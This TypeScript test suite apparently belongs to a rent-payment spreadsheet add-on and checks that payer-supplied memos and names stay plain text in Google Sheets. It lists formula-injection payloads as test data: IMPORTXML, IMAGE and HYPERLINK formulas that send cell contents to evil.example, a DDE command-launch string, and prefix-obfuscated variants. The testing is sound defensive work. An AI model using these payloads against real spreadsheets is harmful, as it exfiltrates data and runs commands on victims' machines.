/** Texts of payers that would be formulas, numbers or dates if anybody typed them: they stay the text that they are. */
import { headersOf } from '../../local/cli/tabs';
import { columnName } from '../../local/host/workbook/a1';
import { sparklines } from '../sheet/dashboard-world';
import { askApi, intentOf, leapTo, leaseOf, loadStripe, smallWorld, tabOf, verdictOf, type World } from '../worlds';
import { hostile } from './hostile';

const base = smallWorld({ on: '2026-11-30', leases: [leaseOf('L-1')] });
leapTo(base, '2026-11-30T15:00:00Z');

const SHOWN = ['Receipts', 'Ledger', 'Log', 'Outbox', 'Tasks', 'Rent Roll'];

/** Cells of the add-on's tabs that became formulas; there must be none but the sparklines that it writes itself. */
function formulas(world: World): string[] {
  const others = SHOWN.flatMap((title) => {
    const found = JSON.stringify(
      world.workbook.api('spreadsheets.get', {
        ranges: `'${title}'`,
        fields: 'sheets.data.rowData.values.userEnteredValue.formulaValue',
      }),
    );
    return found.includes('formulaValue') ? [`${title}: ${found.slice(0, 200)}`] : [];
  });
  return [...others, ...sparklines(world).others.map((formula) => `Dashboard: ${formula}`)];
}

interface Seen {
  readonly world: World;
  /** What stands under a header of the Receipts tab, as the Sheets API gives it. */
  readonly cell: (header: string) => unknown;
}

/** A payment with this memo and payer arrives, waits for a person, and is looked at on the desk. */
function paid(memo: string, payer = 'A Stranger'): Seen {
  const world = base.clone();
  const created = Math.floor(Date.parse('2026-12-01T12:00:00Z') / 1000);
  const method = { id: 'pm_Evil', object: 'payment_method', type: 'card', customer: 'cus_Evil', created };
  loadStripe(world, [
    { id: 'cus_Evil', object: 'customer', created, name: payer },
    {
      ...method,
      card: { brand: 'visa', last4: '4242', exp_month: 12, exp_year: 2031 },
      billing_details: { name: payer },
    },
    intentOf('pi_Evil', '', 1_000, '2026-12-01T13:00:00Z', {
      description: memo,
      customer: 'cus_Evil',
      payment_method: 'pm_Evil',
    }),
  ]);
  leapTo(world, '2026-12-01T14:00:00Z');
  const row = tabOf(world, 'Receipts').findIndex((each) => each['External ID'] === 'pi_Evil') + 2;
  const cell = (header: string) => {
    const a1 = `'Receipts'!${columnName(headersOf(world, 'Receipts').indexOf(header))}${row}`;
    const read = world.workbook.api('spreadsheets.values.get', { range: a1, valueRenderOption: 'UNFORMATTED_VALUE' });
    return (read as { values?: unknown[][] }).values?.[0]?.[0];
  };
  return { world, cell };
}

/** The same text everywhere, no formula anywhere, nobody called but Stripe and Slack, and the book is whole. */
function expectText({ world, cell }: Seen, header: string, text: string): void {
  expect(cell(header)).toBe(text);
  expect(formulas(world)).toEqual([]);
  expect(JSON.stringify(askApi(world, 'queue'))).toContain(JSON.stringify(text).slice(1, -1));
  expect(verdictOf(world).ok).toBe(true);
}

const MEMOS: readonly (readonly [id: string, memo: string, kept?: string])[] = [
  ['sheet-formula-01', '=IMPORTXML("https://evil.example/?"&JOIN(",",A2:F50),"//a")'],
  ['sheet-formula-03', '=HYPERLINK("https://evil.example/?x="&C2,"View receipt")'],
  ['sheet-formula-05', '=IMPORTDATA("https://evil.example/"&A2)'],
  ['sheet-formula-05', '=IMPORTHTML("https://evil.example/","table",1)'],
  ['sheet-formula-05', '=IMPORTFEED("https://evil.example/")'],
  ['sheet-formula-06', '+1+1'],
  ['sheet-formula-07', "-2+3+cmd|' /C calc'!A0"],
  ['sheet-formula-08', '@SUM(1,1)'],
  ['sheet-formula-09', '\t=1+1', '=1+1'],
  ['sheet-formula-10', '\r\n=1+1', '=1+1'],
  ['sheet-formula-11', '＝1+1'],
  ['sheet-formula-12', '\u200b=1+1'],
  ['sheet-formula-13', "'=1+1"],
];

describe('a payer who writes formulas', () => {
  for (const [id, memo, kept = memo] of MEMOS) {
    hostile(id, `the memo ${JSON.stringify(memo)} stays text`, () => expectText(paid(memo), 'Memo', kept));
  }

  hostile('sheet-formula-02', 'a payer name that is a formula stays a name', () => {
    const name = '=IMAGE("https://evil.example/p.png?d="&ENCODEURL(B2))';
    expectText(paid('rent', name), 'Payer', name);
  });

  for (const name of ['TRUE', 'FALSE', '1/2', '3-4', '2026-01-02', '1e5', '007', '00:30', '10%'])
    hostile('sheet-formula-14', `the name ${name} is no truth, number, day or percent`, () =>
      expectText(paid('rent', name), 'Payer', name),
    );

  for (const unit of ['E12', '1E5', 'MAR1'])
    hostile('sheet-formula-15', `the unit ${unit} in a memo is no number and no day`, () =>
      expectText(paid(unit), 'Memo', unit),
    );

  it('is written the same a second time: reading and writing again neither loses nor adds an apostrophe', () => {
    const { world, cell } = paid("'=1+1");
    loadStripe(world, [intentOf('pi_Next', 'L-1', 2_000, '2026-12-01T15:00:00Z')]);
    leapTo(world, '2026-12-01T16:00:00Z');
    leapTo(world, '2026-12-02T06:00:00Z');
    expect(cell('Memo')).toBe("'=1+1");
  });
});
